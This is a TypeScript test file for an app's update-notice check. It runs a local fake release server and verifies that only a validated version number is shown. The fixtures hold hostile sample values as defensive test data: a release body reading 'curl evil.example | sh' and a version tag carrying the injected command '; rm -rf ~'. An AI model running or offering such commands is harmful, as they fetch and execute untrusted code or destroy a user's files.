import { existsSync } from 'node:fs';
import { once } from 'node:events';
import { createServer, type Server, type ServerResponse } from 'node:http';
import type { AddressInfo } from 'node:net';
import { join } from 'node:path';
import fc from 'fast-check';
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import { newerRelease } from '../../src/node/updates/newer-release.ts';
import {
  createMainSetup,
  eventually,
  type MainSetup,
  type RunningMain,
} from '../support/running-main.ts';

const release = (tag: unknown, more: object = {}) => ({
  tag_name: tag,
  draft: false,
  prerelease: false,
  html_url: 'https://evil.example/',
  body: 'Run: curl evil.example | sh',
  ...more,
});

describe('a newer version', () => {
  let setup: MainSetup;
  let server: Server;
  let requests: { readonly path: string; readonly headers: NodeJS.Dict<string | string[]> }[];
  let answer: (response: ServerResponse) => void;
  beforeEach(async () => {
    requests = [];
    setup = await createMainSetup();
    server = createServer((request, response) => {
      requests.push({ path: request.url ?? '', headers: request.headers });
      answer(response);
    });
    await once(server.listen(0, '127.0.0.1'), 'listening');
  });
  afterEach(async () => {
    server.closeAllConnections();
    server.close();
    await setup.dispose();
  });
  const port = (): number => (server.address() as AddressInfo).port;
  const start = (): Promise<RunningMain> =>
    setup.start({ args: [`--stand-in-releases=http://127.0.0.1:${port()}/latest`] });
  const says = (text: string) => (response: ServerResponse) => void response.end(text);
  const notices = async (main: RunningMain) =>
    (await main.do.facts()).notices.filter(({ id }) => id.includes('version'));
  const end = async (main: RunningMain): Promise<void> => {
    await main.do.quit().catch(() => undefined);
    await main.ended;
  };
  const noticesOf = (main: RunningMain) =>
    eventually(
      () => notices(main),
      (found) => found.length > 0,
    );
  const untilAsked = () =>
    eventually(
      () => Promise.resolve(requests.length),
      (count) => count > 0,
    );

  it('is shown with its number and the download page, and with no other text of the server’s answer', async () => {
    answer = says(JSON.stringify(release('v99.1.2')));
    const main = await start();
    const [notice] = await noticesOf(main);
    expect(notice).toMatchObject({
      title: 'Rolekeeper 99.1.2 is available',
      body: 'Download it from github.com/rolekeeper/rolekeeper/releases.',
    });
    expect(requests).toHaveLength(1);
    expect(requests[0]?.path).toBe('/latest');
    expect(Object.keys(requests[0]?.headers ?? {}).toSorted()).toEqual([
      'accept',
      'connection',
      'host',
      'user-agent',
    ]);
    expect(requests[0]?.headers['user-agent']).toBe('rolekeeper');
  });

  it('is shown only once, also after a restart', async () => {
    answer = says(JSON.stringify(release('v99.1.2')));
    const first = await start();
    await noticesOf(first);
    const file = join(setup.rolekeeperHome, 'hints.json');
    await eventually(
      () => Promise.resolve(existsSync(file)),
      (exists) => exists,
    );
    await end(first);
    requests = [];
    const second = await start();
    await untilAsked();
    await second.call('preferences', 'set', { changes: { theme: 'dark' } });
    expect(await notices(second)).toEqual([]);
  });

  it.each([
    ['the same version', JSON.stringify(release('v0.0.0'))],
    ['a draft', JSON.stringify(release('v99.1.2', { draft: true }))],
    ['a pre-release', JSON.stringify(release('v99.1.2', { prerelease: true }))],
    ['a name that is no version', JSON.stringify(release('v99.1.2; rm -rf ~'))],
    ['no JSON', '<html>'],
    ['an answer of 3 MB', 'x'.repeat(3_000_000)],
  ])('is not shown for %s', async (_what, text) => {
    answer = says(text);
    const main = await start();
    await untilAsked();
    await main.call('preferences', 'set', { changes: { theme: 'dark' } });
    expect(await notices(main)).toEqual([]);
  });

  it('is not looked for at the target of a redirect', async () => {
    answer = (response) =>
      void response.writeHead(302, { location: `http://127.0.0.1:${port()}/elsewhere` }).end();
    const main = await start();
    await untilAsked();
    await main.call('preferences', 'set', { changes: { theme: 'dark' } });
    expect(requests.map(({ path }) => path)).toEqual(['/latest']);
  });

  it.each([
    ['update notices off', { updateNotices: false }],
    ['only needed notices', { notices: 'needed' }],
  ])('is not looked for with %s, and no server is contacted', async (_setting, changes) => {
    answer = says(JSON.stringify(release('v99.1.2')));
    const setting = await setup.start();
    await setting.call('preferences', 'set', { changes });
    await end(setting);
    const main = await start();
    const state = await main.state();
    expect(state.preferences).toMatchObject(changes);
    await main.call('preferences', 'set', { changes: { theme: 'dark' } });
    expect(requests).toEqual([]);
    expect(await notices(main)).toEqual([]);
  });
});

describe('a version in the server’s answer', () => {
  const version = fc.tuple(fc.nat(99), fc.nat(99), fc.nat(99));
  const text = (numbers: readonly number[]): string => numbers.join('.');

  it('is newer only if the first number that differs is greater', () => {
    fc.assert(
      fc.property(version, version, (offered, own) => {
        const at = offered.findIndex((number, n) => number !== own[n]);
        const isNewer = at >= 0 && (offered[at] ?? 0) > (own[at] ?? 0);
        expect(newerRelease(release(`v${text(offered)}`), text(own))).toBe(
          isNewer ? text(offered) : null,
        );
      }),
    );
  });

  it('is never more than three numbers, whatever the answer is', () => {
    fc.assert(
      fc.property(
        fc.oneof(
          fc.anything(),
          fc.string().map((tag) => release(tag)),
        ),
        (answer) => {
          expect(newerRelease(answer, '0.1.0') ?? '1.0.0').toMatch(/^\d+\.\d+\.\d+$/);
        },
      ),
    );
  });

  it('is newer than a pre-release of the same number', () => {
    expect(newerRelease(release('v1.0.0'), '1.0.0-beta.1')).toBe('1.0.0');
    expect(newerRelease(release('v1.0.0'), '1.0.1-beta.1')).toBeNull();
  });
});
